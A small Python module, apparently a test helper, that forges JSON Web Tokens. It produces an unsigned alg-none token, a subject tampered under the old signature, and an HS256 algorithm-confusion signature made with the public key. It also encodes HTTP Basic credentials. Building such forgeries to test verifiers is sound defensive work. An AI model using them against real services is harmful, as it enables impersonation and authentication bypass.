"""Forged credentials: what an attacker without a key can make of a token. Attack only; never verifies.

Shapes from RFC 8725 (JSON Web Token Best Current Practices), sections 2.1 and 2.2.
"""

import base64
import binascii
import hashlib
import hmac
import json
from collections.abc import Mapping

Claims = Mapping[str, object]


def unsigned(token: str, subject: str) -> str:
    """The token's claims with another subject, `alg` none and no signature."""
    return f"{_part({'alg': 'none', 'typ': 'JWT'})}.{_part({**_claims(token), 'sub': subject})}."


def tampered(token: str, subject: str) -> str:
    """The token with another subject under its old signature."""
    head, _, rest = token.partition(".")
    return f"{head}.{_part({**_claims(token), 'sub': subject})}.{rest.rpartition('.')[2]}"


def confused(token: str, subject: str, public_key: bytes) -> str:
    """The token with another subject, signed by HMAC under the public key as if it were a shared secret."""
    text = f"{_part({'alg': 'HS256', 'typ': 'JWT'})}.{_part({**_claims(token), 'sub': subject})}"
    return f"{text}.{_base64url(hmac.digest(public_key, text.encode(), hashlib.sha256))}"


def basic(name: str, password: str) -> str:
    """The credentials of HTTP Basic (RFC 7617, section 2)."""
    return base64.b64encode(f"{name}:{password}".encode()).decode()


def _claims(token: str) -> dict[str, object]:
    """The token's claims if it is a JWT, else none: an opaque token can only be replaced."""
    middle = token.partition(".")[2].partition(".")[0]
    try:
        claims = json.loads(base64.urlsafe_b64decode(middle + "=" * (-len(middle) % 4)))
    except (binascii.Error, ValueError):
        return {}
    return claims if isinstance(claims, dict) else {}


def _part(values: Claims) -> str:
    return _base64url(json.dumps(values, separators=(",", ":")).encode())


def _base64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
